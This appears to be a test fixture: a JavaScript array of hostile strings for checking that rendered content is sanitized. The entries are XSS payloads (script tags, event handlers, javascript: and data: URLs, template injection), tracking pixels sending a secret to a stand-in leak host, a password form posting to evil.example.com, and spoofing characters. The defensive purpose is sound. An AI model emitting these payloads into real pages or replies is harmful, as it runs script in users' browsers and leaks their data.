// Texts that models, files and tools might contain to run something, to leak something, or to break the page.
const policyProbe = "<script>globalThis.pwned = 1</script>";

export const hostileTexts = [
  policyProbe,
  "<img src=x onerror=\"globalThis.pwned = 2\"> <svg onload='globalThis.pwned = 3'><image href='https://leak.example.com/a.png'/></svg>",
  "![pixel](https://leak.example.com/p.png?secret=1) [click](javascript:globalThis.pwned=4) [data](data:text/html,<script>pwned=5</script>)",
  "[a bank](https://bank.example.com@evil.example.com/) and https://evil.example.com/?q=%3Cscript%3E and HTTP://UPPER.example.com",
  "<iframe srcdoc='<script>parent.pwned = 6</script>'></iframe><base href='https://evil.example.com/'><meta http-equiv=refresh content='0;url=https://evil.example.com'>",
  "\u202Etxt.exe \u2066hidden\u2069 \u200F reversed \u0000\u0007 control".replace("\u0000", ""),
  "```html\n<form action='https://evil.example.com'><input name=password></form>\n```\n| a | b |\n|---|---|\n| <b>x</b> | [y](vbscript:z) |",
  "W" + "o".repeat(30_000) + "w",
  "Zalgo: " + "Z\u0351\u036B\u0343\u036A".repeat(400),
  "# heading <u>\n- item <object data=x>\n> quote <embed src=x>\n1. `code` **bold <i>x</i>** *em*",
  "*".repeat(5_000) + "`".repeat(5_000) + "[".repeat(5_000),
  "{{constructor.constructor('globalThis.pwned = 7')()}} ${globalThis.pwned = 8} <%= 1 %>",
];
